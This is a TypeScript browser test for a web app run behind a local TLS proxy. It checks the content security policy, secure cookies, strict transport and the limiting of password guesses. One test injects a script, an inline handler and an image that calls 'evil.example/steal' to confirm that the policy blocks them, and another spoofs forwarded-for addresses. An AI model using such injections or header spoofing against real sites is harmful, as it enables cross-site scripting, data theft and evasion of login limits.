import { mkdtemp, rm } from 'node:fs/promises'
import { request } from 'node:http'
import { createServer, type Server } from 'node:https'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { selfSigned } from '#test/certificate'
import { launchBrowser } from '../browser.ts'
import { helperScreens } from '../../web/helper/screens.tsx'
import { startProgram, type Program } from '../program.ts'
import { addressOf, examplesOf, screensByAccount } from './addresses.ts'

/*
 * The program as it is put into use: behind a proxy that speaks TLS, here Node's own with a certificate made for the day, the small
 * demonstration inside. Every screen of the desk, the phone and the calculator is opened; a browser that has to refuse anything under the
 * content security policy, or that loads anything without TLS, fails the test.
 *
 * A machine without Chromium and without SQLite's library cannot do it: the browser from npm ends at its first page over TLS there.
 */
let directory: string
let program: Program
let proxy: Server
let outer: string
let browser: Browser
/** What the pages asked for, and what the browser complained about. */
const asked: string[] = []
const complaints: string[] = []
/** Answers of the server as the proxy saw them. */
const cookies: string[] = []

function contextOf(viewport: { width: number; height: number }): Promise<BrowserContext> {
  return browser.newContext({ viewport, locale: 'zh-CN', ignoreHTTPSErrors: true })
}

async function open(context: BrowserContext): Promise<Page> {
  const page = await context.newPage()
  page.on('request', (each) => asked.push(each.url()))
  page.on('console', (message) => {
    if (message.type() === 'error' && /Content Security Policy|Mixed Content/i.test(message.text()))
      complaints.push(`${page.url()}: ${message.text()}`)
  })
  page.on('pageerror', (error) => complaints.push(`${page.url()}: ${error.message}`))
  return page
}

async function signIn(page: Page, login: string): Promise<void> {
  await page.goto(outer)
  const reply = await page.request.post(`${outer}/api/session`, { data: { login, password: 'doudi-demo' }, headers: { 'x-doudi': '1' } })
  expect(reply.ok(), login).toBe(true)
}

async function look(page: Page, path: string): Promise<void> {
  await page.goto(outer + path)
  // The page is there: a policy that stops scripts would leave it empty.
  await expect.poll(async () => (await page.locator('#root').innerText()).length, { message: path, timeout: 20_000 }).toBeGreaterThan(20)
  await page.waitForLoadState('networkidle', { timeout: 20_000 })
}

/** As `look`, at a screen with people on it: it says that they are made up. */
async function lookAtPeople(page: Page, path: string): Promise<void> {
  await look(page, path)
  expect(await page.locator('body').innerText(), path).toContain('演示数据均为合成，非真实人员')
}

describe.skipIf(!inject('browser').speaksTls)('behind a proxy that speaks TLS', () => {
  beforeAll(async () => {
    directory = await mkdtemp(join(tmpdir(), 'doudi-tls-'))
    program = await startProgram({
      DOUDI_DATA: join(directory, 'data'),
      DOUDI_DEMO: 'small',
      DOUDI_HTTPS: '1',
      DOUDI_LOG: 'error',
      DOUDI_DB_MEMORY_MB: '64',
      DOUDI_LAKE_MEMORY_MB: '512',
    })
    const inner = new URL(program.address).port
    proxy = createServer(selfSigned(), (incoming, outgoing) => {
      const { 'x-forwarded-for': _foreign, ...headers } = incoming.headers
      const onward = request(
        {
          port: inner,
          method: incoming.method,
          path: incoming.url,
          headers: { ...headers, 'x-forwarded-for': '203.0.113.9', 'x-forwarded-proto': 'https' },
        },
        (reply) => {
          cookies.push(...(reply.headers['set-cookie'] ?? []))
          outgoing.writeHead(reply.statusCode ?? 502, reply.headers)
          reply.pipe(outgoing)
        },
      )
      incoming.pipe(onward)
    })
    await new Promise<void>((resolve) => {
      proxy.listen(0, '127.0.0.1', resolve)
    })
    outer = `https://localhost:${String((proxy.address() as AddressInfo).port)}`
    // The phone's worker is fetched only under a certificate the whole browser accepts.
    browser = await launchBrowser(['--ignore-certificate-errors'])
  }, 400_000)
  afterAll(async () => {
    await browser.close()
    proxy.closeAllConnections()
    proxy.close()
    await program.end()
    await rm(directory, { recursive: true, force: true })
  })

  test('every screen of the desk works under the policy, over TLS only', async () => {
    const context = await contextOf({ width: 1366, height: 768 })
    const page = await open(context)
    await look(page, '/')
    await signIn(page, 'county')
    const examples = await examplesOf(page, outer)
    for (const [login, opened] of screensByAccount()) {
      await signIn(page, login)
      for (const { path } of opened) await lookAtPeople(page, addressOf(path, examples))
    }
    await signIn(page, 'county')
    await lookAtPeople(page, `${addressOf('/households/:id', examples)}?tab=chain`)
    // Styles that antd writes while the page runs are taken: its button has its own height.
    expect(
      await page
        .locator('.ant-btn')
        .first()
        .evaluate((button) => getComputedStyle(button).display),
    ).toMatch(/flex/)
    await context.close()
    expect(complaints).toEqual([])
  }, 600_000)

  test('so do the phone’s pages and the calculator, with their worker', async () => {
    const context = await contextOf({ width: 390, height: 844 })
    const page = await open(context)
    await look(page, '/m/')
    await signIn(page, 'helper')
    const examples = await examplesOf(page, outer)
    for (const { path } of helperScreens) await lookAtPeople(page, addressOf(`/m${path}`, examples))
    await look(page, '/calculator')
    await page.goto(`${outer}/m/`)
    expect(await page.evaluate(async () => (await navigator.serviceWorker.ready).active?.scriptURL)).toMatch(/\/m\/sw\.js$/)
    // Kept by the worker, the page opens again.
    await look(page, '/m/')
    await context.close()
    expect(complaints).toEqual([])
  })

  test('nothing was asked for but this server, and never without TLS', () => {
    expect(asked.length).toBeGreaterThan(200)
    expect(asked.filter((url) => !url.startsWith(`${outer}/`) && !/^(data|blob):/.test(url))).toEqual([])
  })

  test('a script, a style and a request that somebody smuggles into a page are stopped', async () => {
    const context = await contextOf({ width: 1366, height: 768 })
    const page = await open(context)
    await page.goto(outer)
    await page.waitForLoadState('networkidle')
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.textContent = 'window.stolen = 1'
      document.body.append(script)
      document.body.insertAdjacentHTML(
        'beforeend',
        '<style>body { background: rgb(1, 2, 3) !important }</style><a id="smuggled" onclick="window.stolen = 1">x</a>',
      )
      document.getElementById('smuggled')?.click()
      const image = document.createElement('img')
      image.src = 'https://evil.example/steal?who=1'
      document.body.append(image)
    })
    await page.waitForTimeout(300)
    expect(await page.evaluate(() => ['stolen' in window, getComputedStyle(document.body).backgroundColor])).toEqual([
      false,
      expect.not.stringContaining('1, 2, 3') as string,
    ])
    expect(complaints.filter((line) => line.includes('Content Security Policy')).length).toBeGreaterThanOrEqual(3)
    await context.close()
  })

  test('cookies, strict transport, and the address of whoever guesses passwords', async () => {
    expect(cookies.length).toBeGreaterThan(3)
    for (const cookie of cookies) expect(cookie).toMatch(/^__Host-doudi_session=[\w-]+; Path=\/; HttpOnly; Secure; SameSite=Strict$/)
    const context = await contextOf({ width: 800, height: 600 })
    const reply = await context.request.get(outer)
    expect(reply.headers()['strict-transport-security']).toBe('max-age=63072000')
    // Seven wrong passwords through the proxy; the eighth, whatever it says of itself, is still the same stranger.
    const guess = (login: string, from: string) =>
      context.request.post(`${outer}/api/session`, {
        data: { login, password: 'wrong wrong' },
        headers: { 'x-doudi': '1', 'x-forwarded-for': from },
      })
    for (let tries = 0; tries < 7; tries++) await guess(`nobody${String(tries)}`, `198.51.100.${String(tries)}`)
    expect((await guess('somebody', '198.51.100.99')).status()).toBe(429)
    await context.close()
  })
})
